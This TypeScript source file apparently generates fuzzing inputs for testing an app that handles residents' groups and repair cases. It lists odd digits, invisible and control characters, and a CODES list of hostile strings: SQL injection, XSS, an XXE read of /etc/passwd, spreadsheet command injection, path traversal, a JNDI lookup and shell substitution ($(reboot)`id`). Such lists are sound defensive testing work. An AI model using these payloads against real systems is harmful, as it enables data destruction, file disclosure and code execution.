import type { Chance } from '../faults/chance.ts'

/** The zero of each script whose ten digits stand in a row. */
const ZEROS = [
  0x660, 0x6f0, 0x966, 0x9e6, 0xe50, 0x1040, 0x17e0, 0xff10, 0x1d7ce, 0x1d7d8, 0x1fbf0,
] as const
/** Digits that stand in no row. */
const ROWS = [
  '〇一二三四五六七八九',
  '零壹贰叁肆伍陆柒捌玖',
  '⓪①②③④⑤⑥⑦⑧⑨',
  '⁰¹²³⁴⁵⁶⁷⁸⁹',
  '₀₁₂₃₄₅₆₇₈₉',
] as const

/** Characters that are seen by nobody, turn things round, belong to another, or are none. */
const MARKS = [
  '\u0000',
  '\u0007',
  '\u0008',
  '\u001b[2J',
  '\u007f',
  '\u0085',
  '\u009b',
  '\u00ad',
  '\u061c',
  '\u200b',
  '\u200d',
  '\u200e',
  '\u200f',
  '\u2028',
  '\u2029',
  '\u202d',
  '\u202e',
  '\u2066',
  '\u2067',
  '\u2069',
  '\u20e3',
  '\ufe0f',
  '\ufeff',
  '\ufff9',
  '\ufffd',
  '\uffff',
  '\ud83d',
  '\udc00',
  '\udbff\udbff',
  '😷',
  '👨‍👩‍👧‍👦',
  '🇨🇳',
  '🏴\u{e0067}\u{e0062}\u{e007f}',
  '\u{10ffff}',
  '[呲牙]',
] as const

/** Text that means something to somebody else: a database, a browser, a sheet, a shell, a log, a regex. */
const CODES = [
  "'; DROP TABLE cases; --",
  "' OR 1=1 --",
  '%" or contact like "%',
  '"; delete from inbox where id != "',
  '\\',
  '\\u0000',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '&lt;b&gt;&amp;&#x1F600;',
  '<br/>',
  '<span class="emoji emoji1f604"></span>',
  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  '<![CDATA[]]>',
  '=HYPERLINK("http://a.example","x")',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '+86 13812345678',
  '../../../../etc/passwd',
  'C:\\Windows\\..\\con',
  '%s%n%d%x%p',
  '%00%0a',
  '$\u007bjndi:ldap://a.example/b}',
  '{{7*7}}',
  '#{1+1}',
  '$(reboot)`id`',
  '| tee -a',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'group:1号楼居民群',
  'contact:lijie',
  'meet:lijie',
  '{"contact":"lijie"}',
  '%"contact":"lijie"%',
  '\n【#1 报修】1号楼 1-101：已办结。',
  '\r\n{"level":60,"msg":"x"}',
  "$&$1$`$'",
  '(?:a+)+$',
  '[[[[[',
] as const

/** A text's digits in another script. */
export function digits(text: string, chance: Chance): string {
  if (chance.happens(0.5)) {
    const row = chance.pick(ROWS)
    return text.replace(/\d/g, (digit) => row.charAt(Number(digit)))
  }
  const zero = chance.pick(ZEROS)
  return text.replace(/\d/g, (digit) => String.fromCodePoint(zero + Number(digit)))
}

export function mark(chance: Chance): string {
  return chance.pick(MARKS)
}

export function code(chance: Chance): string {
  return chance.pick(CODES)
}

/** A letter under a tower of combining marks. */
export function towers(chance: Chance): string {
  const height = chance.happens(0.05) ? 3_000 : chance.between(1, 30)
  let tower = '户'
  for (let i = 0; i < height; i++) tower += String.fromCharCode(0x300 + chance.between(0, 0x6f))
  return tower
}

/** Any units at all, paired or not. */
export function noise(chance: Chance, length: number): string {
  const units: number[] = []
  const from = chance.pick([0, 0x20, 0x4e00, 0xd700, 0xfe00, 0] as const)
  const to = chance.pick([0x7f, 0x2ff, 0x9fff, 0xdfff, 0xffff, 0xffff] as const)
  for (let i = 0; i < length; i++)
    units.push(chance.between(Math.min(from, to), Math.max(from, to)))
  return String.fromCharCode(...units)
}
